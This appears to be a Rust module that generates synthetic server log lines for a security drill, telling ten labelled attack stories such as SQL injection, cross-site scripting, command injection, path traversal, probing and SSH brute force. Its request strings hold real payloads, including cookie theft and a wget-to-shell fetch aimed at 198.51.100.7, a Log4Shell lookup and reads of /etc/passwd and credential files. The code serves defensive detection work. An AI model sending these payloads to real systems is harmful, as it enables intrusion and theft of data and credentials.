//! The attacks, each told as the log lines it would leave, with its label.

use super::geography;
use super::scene::{Ask, Client, Scene};
use super::visit::{AGENTS, page};

/// A label, and who tells the story.
type Story = (&'static str, fn(&mut Scene<'_>));

/// All stories in the order they are played.
const TOLD: [Story; 10] = [
    ("sql-injection", sql_injection),
    ("ssh-brute-force", ssh_brute_force),
    ("scanner", scanner),
    ("path-traversal", path_traversal),
    ("password-spray", password_spray),
    ("cross-site-scripting", cross_site_scripting),
    ("probing", probing),
    ("command-injection", command_injection),
    ("odd-responses", odd_responses),
    ("crawl", crawl),
];

/// The labels.
pub const STORIES: [&str; 10] = {
    let mut labels = [""; 10];
    let mut i = 0;
    while i < labels.len() {
        labels[i] = TOLD[i].0;
        i += 1;
    }
    labels
};

/// Plays the story whose turn it is.
pub fn play(turn: usize, scene: &mut Scene<'_>) {
    let (label, tell) = TOLD[turn % TOLD.len()];
    scene.story = Some(label);
    tell(scene);
}

fn attacker(scene: &mut Scene<'_>, agent: Option<&'static str>) -> Client {
    let ip = geography::attacker(scene.rng);
    Client { ip, agent: agent.unwrap_or_else(|| scene.rng.pick(&AGENTS)), user: None }
}

/// Sends each of these, in its own time.
fn send(scene: &mut Scene<'_>, client: &Client, urls: &[&str], statuses: &[u16], pace: (i64, i64)) {
    for url in urls {
        let status = scene.rng.pick(statuses);
        scene.ask(client, Ask { method: "GET", url, status, referer: "" });
        scene.wait(pace.0, pace.1);
    }
}

fn sql_injection(scene: &mut Scene<'_>) {
    let client = attacker(scene, None);
    scene.ask(&client, Ask { method: "GET", url: "/item?id=17", status: 200, referer: "" });
    scene.wait(200, 600);
    let first = "/item?id=17'%20OR%20'1'='1'--%20-";
    scene.ask(&client, Ask { method: "GET", url: first, status: 500, referer: "" });
    scene.alert(&client, first, (9_000_001, "DRILL SQL injection in URI", "Web Application Attack"));
    scene.wait(400, 900);
    let rest = [
        "/item?id=17%20ORDER%20BY%209--",
        "/item?id=-1%20UNION%20SELECT%201,2,3,4--",
        "/item?id=-1+UNION+ALL+SELECT+NULL,table_name,NULL+FROM+information_schema.tables--",
        "/item?id=17;SELECT%20pg_sleep(5)--",
        "/item?id=17%27%20AND%20SLEEP(5)%23",
        "/search?q=%27%29%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20",
        "/item?id=17+AND+extractvalue(1,concat(0x7e,version()))",
        "/item?id=17%20AND%201=CAST((SELECT%20current_user)%20AS%20int)--",
    ];
    send(scene, &client, &rest, &[200, 500, 500], (500, 1_600));
}

fn cross_site_scripting(scene: &mut Scene<'_>) {
    let client = attacker(scene, None);
    let urls = [
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
        "/search?q=<svg/onload=fetch('//198.51.100.7/'+document.cookie)>",
        "/contact.html?name=javascript:alert(document.domain)",
        "/search?q=%3Ciframe%20srcdoc=%22%26lt;script%26gt;alert(1)%26lt;/script%26gt;%22%3E",
        "/blog/?ref=\"><script src=//198.51.100.7/x.js></script>",
    ];
    send(scene, &client, &urls, &[200], (700, 2_200));
}

fn path_traversal(scene: &mut Scene<'_>) {
    let client = attacker(scene, Some("curl/8.14.1"));
    let urls = [
        "/download?file=../../../../etc/passwd",
        "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/static/..%252f..%252f..%252fetc/shadow",
        "/download?file=....//....//....//etc/hosts",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/download?file=/proc/self/environ",
        "/download?file=..\\..\\..\\windows\\win.ini",
    ];
    send(scene, &client, &urls, &[400, 403, 404], (500, 1_500));
}

fn command_injection(scene: &mut Scene<'_>) {
    let client = attacker(scene, Some("python-requests/2.32.3"));
    let first = "/tools/ping?host=127.0.0.1;cat%20/etc/passwd";
    scene.ask(&client, Ask { method: "GET", url: first, status: 500, referer: "" });
    scene.alert(
        &client,
        first,
        (9_000_002, "DRILL Command injection in URI", "Attempted Administrator Privilege Gain"),
    );
    scene.wait(400, 900);
    let urls = [
        "/tools/ping?host=%7Cid",
        "/tools/ping?host=$(wget%20http://198.51.100.7/x.sh%20-O-%7Csh)",
        "/tools/ping?host=%60curl%20198.51.100.7%60",
        "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
        "/?x=${jndi:ldap://198.51.100.7/a}",
    ];
    send(scene, &client, &urls, &[404, 500], (600, 1_700));
}

fn scanner(scene: &mut Scene<'_>) {
    let agent = scene.rng.pick(&[
        "sqlmap/1.9.4#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    ]);
    let client = attacker(scene, Some(agent));
    scene.alert(&client, "/", (9_000_003, "DRILL Web scanner by its user agent", "Web Application Attack"));
    for _ in 0..60 {
        let words =
            ["admin", "backup", "cgi-bin/test", "config", "db", "old", "phpmyadmin", "server-status", "test", "tmp"];
        let ends = [".php", ".bak", "/", ".asp", ".zip", ".cgi"];
        let url = format!("/{}{}{}", scene.rng.pick(&words), scene.rng.between(0, 30), scene.rng.pick(&ends));
        scene.ask(&client, Ask { method: "GET", url: &url, status: 404, referer: "" });
        scene.wait(60, 280);
    }
}

fn probing(scene: &mut Scene<'_>) {
    let client = attacker(scene, Some("Mozilla/5.0"));
    let hidden = [
        "/.git/config",
        "/.env",
        "/wp-login.php",
        "/xmlrpc.php",
        "/.aws/credentials",
        "/admin/",
        "/server-status",
        "/phpinfo.php",
        "/config.json",
        "/backup.sql",
        "/.ssh/id_rsa",
        "/manager/html",
        "/solr/admin/",
        "/actuator/env",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/owa/auth/logon.aspx",
        "/.DS_Store",
        "/wp-config.php.bak",
        "/debug/default/view",
        "/console/",
        "/api/v1/pods",
        "/boaform/admin/formLogin",
        "/HNAP1",
        "/telescope/requests",
        "/.svn/entries",
        "/web.config",
        "/id_rsa",
        "/dump.tar.gz",
        "/s3cmd.ini",
        "/private/",
    ];
    for url in hidden {
        let status = if scene.rng.chance(35) { 403 } else { 404 };
        scene.ask(&client, Ask { method: "GET", url, status, referer: "" });
        scene.wait(120, 450);
    }
}

fn crawl(scene: &mut Scene<'_>) {
    let client = attacker(scene, None);
    let first = scene.rng.between(1, 1_000);
    for item in first..first + 180 {
        let url = format!("/item/{item}.html");
        let status = if scene.rng.chance(4) { 404 } else { 200 };
        scene.ask(&client, Ask { method: "GET", url: &url, status, referer: "" });
        scene.wait(30, 110);
    }
}

/// Nothing in any request is suspicious; what stands out is how the server had to answer.
fn odd_responses(scene: &mut Scene<'_>) {
    let client = attacker(scene, None);
    let answers = [
        ("GET", 206),
        ("GET", 416),
        ("PUT", 405),
        ("POST", 413),
        ("GET", 499),
        ("POST", 415),
        ("GET", 502),
        ("GET", 200),
        ("HEAD", 400),
        ("DELETE", 405),
    ];
    for _ in 0..70 {
        let (method, status) = scene.rng.pick(&answers);
        let url = page(scene);
        scene.ask(&client, Ask { method, url: &url, status, referer: "https://shop.example/" });
        scene.wait(150, 420);
    }
}

const ACCOUNTS: [&str; 16] = [
    "admin",
    "oracle",
    "test",
    "postgres",
    "ubuntu",
    "git",
    "ftpuser",
    "pi",
    "jenkins",
    "hadoop",
    "deploy",
    "minecraft",
    "user",
    "guest",
    "nagios",
    "www",
];

fn ssh_brute_force(scene: &mut Scene<'_>) {
    let ip = geography::attacker(scene.rng);
    for _ in 0..14 {
        let (pid, port) = (scene.rng.between(2_000, 60_000), scene.rng.between(32_000, 61_000));
        let root = scene.rng.chance(50);
        let account = scene.rng.pick(&ACCOUNTS);
        let (who, closed) = if root {
            ("root".to_owned(), "authenticating user root".to_owned())
        } else {
            (format!("invalid user {account}"), format!("invalid user {account}"))
        };
        if !root {
            scene.ssh(pid, &format!("Invalid user {account} from {ip} port {port}"));
        }
        for _ in 0..scene.rng.between(1, 5) {
            let user = if root { "  user=root" } else { " " };
            scene.ssh(
                pid,
                &format!(
                    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}{user}"
                ),
            );
            scene.wait(150, 500);
            scene.ssh(pid, &format!("Failed password for {who} from {ip} port {port} ssh2"));
        }
        scene.ssh(pid, &format!("Connection closed by {closed} {ip} port {port} [preauth]"));
        scene.wait(100, 500);
    }
}

/// Several neighbours try one password on many accounts, each of them rarely.
fn password_spray(scene: &mut Scene<'_>) {
    let from = geography::neighbours(scene.rng, 8);
    for visitor in 1..=40 {
        let ip = scene.rng.pick(&from);
        let (pid, port) = (scene.rng.between(2_000, 60_000), scene.rng.between(32_000, 61_000));
        scene.ssh(pid, &format!("Failed password for visitor{visitor} from {ip} port {port} ssh2"));
        scene
            .ssh(pid, &format!("Connection closed by authenticating user visitor{visitor} {ip} port {port} [preauth]"));
        scene.wait(200, 700);
    }
}
